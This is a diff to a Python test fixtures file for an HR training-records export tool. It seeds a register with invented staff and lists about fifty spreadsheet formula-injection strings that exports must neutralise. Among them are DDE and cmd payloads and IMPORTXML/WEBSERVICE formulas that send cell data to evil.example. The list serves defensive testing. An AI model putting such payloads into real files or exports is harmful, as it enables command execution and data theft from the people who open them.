@@ -2,18 +2,23 @@
 
 from __future__ import annotations
 
+import random
 import shutil
-from collections.abc import Iterator
-from datetime import datetime
+from collections.abc import Callable, Iterator
+from datetime import datetime, timedelta
 from pathlib import Path
 from typing import NamedTuple
 
 import pytest
+from sqlite_utils import Database
 
 from exports.hr import authority as authorities
 from exports.hr.authority import Authority
-from modules.model import Organisation
+from modules.model import AUDIENCES, Organisation
+from records.hr.model import Details
+from records.hr.people import insert
 from records.hr.register import Register, open_register
+from records.moment import to_text
 
 PASSPHRASE = "kettle otter window"
 
@@ -72,3 +77,74 @@ def organisation() -> Organisation:
         valid_months=12,
         new_starter_days=14,
     )
+
+
+def seeded(register: Register, count: int, now: datetime, organisation: Organisation, seed: int = 7) -> None:
+    """Fill a register with invented people who stand in every way there is."""
+    chance = random.Random(seed)
+    names = ("Siân Ŵyn-Ŷstwyth", "Zoë Example", "Ann “Quoted” Test", "Bartholomew Featherstonehaugh-Test von Sample")
+    teams = ("Programmes", "Marketing, PR; and press", "Digital\u2009team", "R&D <tests>", "")
+    with register.deed("Tester", "seeded", "", now) as db:
+        for number in range(count):
+            details = Details(
+                name=f"{chance.choice(names)} {number}",
+                email=f"person.{number}@heron.example" if number % 7 else "",
+                staff_number=f"{number:05}" if number % 3 or not number % 7 else "",
+                team=chance.choice(teams),
+                nation=chance.choice(("England", "Wales", "")),
+                manager_email=f"manager.{number % 11}@heron.example" if number % 5 else "",
+                audiences=chance.choice((("everyone",), ("everyone", "manage"), AUDIENCES)),
+                left_on=(now - timedelta(days=9)).date() if number % 50 == 3 else None,
+            )
+            insert(db, f"person-{number}", details, organisation, now - timedelta(days=chance.randrange(40)))
+            if chance.random() < 0.7:
+                _complete(db, f"person-{number}", now - timedelta(days=chance.randrange(500)), chance)
+
+
+def _complete(db: Database, person_id: str, at: datetime, chance: random.Random) -> None:
+    ends = to_text(at + timedelta(days=365))
+    standing = {
+        "completed_at": to_text(at),
+        "expires_at": ends,
+        "due_at": ends,
+        "policy_version": chance.choice(("6.2", "7.0", "7.0", "7.0")),
+        "score": chance.choice((0.8, 0.85, 0.8999999, 11 / 12, 1.0, 0.29)),
+        "verdict": chance.choice(("known", "invited", "countersigned", "unrecognised")),
+        "completion_id": f"completion-of-{person_id}",
+        "countersigned_at": to_text(at + timedelta(hours=5)) if chance.random() < 0.5 else None,
+    }
+    places = ", ".join(f"{name} = :{name}" for name in standing)
+    db.execute(f"UPDATE person SET {places} WHERE id = :id", {**standing, "id": person_id})
+
+
+@pytest.fixture(scope="session")
+def crowd(tmp_path_factory: pytest.TempPathFactory, now: datetime, organisation: Organisation) -> Iterator[Register]:
+    """Make a register of 1 000 people, once; no test may change it."""
+    made = open_register(tmp_path_factory.mktemp("crowd"), now)
+    seeded(made, 1000, now, organisation)
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def fill(now: datetime, organisation: Organisation) -> Callable[..., None]:
+    """Give what fills a register with invented people: `fill(register, count)`."""
+    return lambda register, count, **more: seeded(register, count, now, organisation, **more)
+
+
+# Texts that spreadsheets might calculate, run, or fetch something for.
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","click")',
+    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00a0=1", "'=1+1", '"=1+1"', '"=1+1', "''=1", "' =1",
+    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u22121+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u2060@x",
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")',
+    "@import", "+447700900123", "-Infinity", "=", "+", "-", "@", "==1", "=+1", "-@1", "=\n1", "a;=1+1", "a\t=1+1",
+    "a,=1+1", "a|=1+1", "x\r\n=1+1", "x\n@SUM(1)", 'a;"=1+1"', "1;-1", '=DDE("cmd";"/C calc";"x")', "{=1+1}",
+    "=1+1\x00",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="session")
+def formulas() -> tuple[str, ...]:
+    """Give fifty texts that no file may let a spreadsheet calculate."""
+    return FORMULAS
